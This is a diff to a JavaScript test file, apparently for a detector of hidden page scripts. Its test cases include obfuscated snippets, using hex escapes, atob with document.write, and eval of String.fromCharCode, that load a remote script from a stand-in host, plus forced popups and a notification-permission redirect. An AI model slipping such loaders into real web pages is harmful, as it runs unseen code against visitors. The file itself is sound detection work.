@@ -41,6 +41,11 @@ describe("what scripts do behind visitors' backs", () => {
       "a script whose address is in numbers",
       "l=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x74\\x68\\x65\\x72\\x65\\x2e\\x6f\\x72\\x67\\x2f'];createElement('script').src=l[0]",
     ],
+    ["one that is written", `var u=atob('${encoded}');document.write('<script src="'+u+'"><\\/script>')`],
+    [
+      "one that is made of numbers",
+      `eval(String.fromCharCode(${[..."s=createElement('script');s.src='https://there.org/a.js'"].map((one) => one.charCodeAt(0))}))`,
+    ],
     ["any press", "document.addEventListener('click', () => { window.open('https://hot.there.org/?z=1') })"],
     ["leave for notices", "Notification.requestPermission();location='https://there.org/a'"],
   ])("%s", (_, script) => {
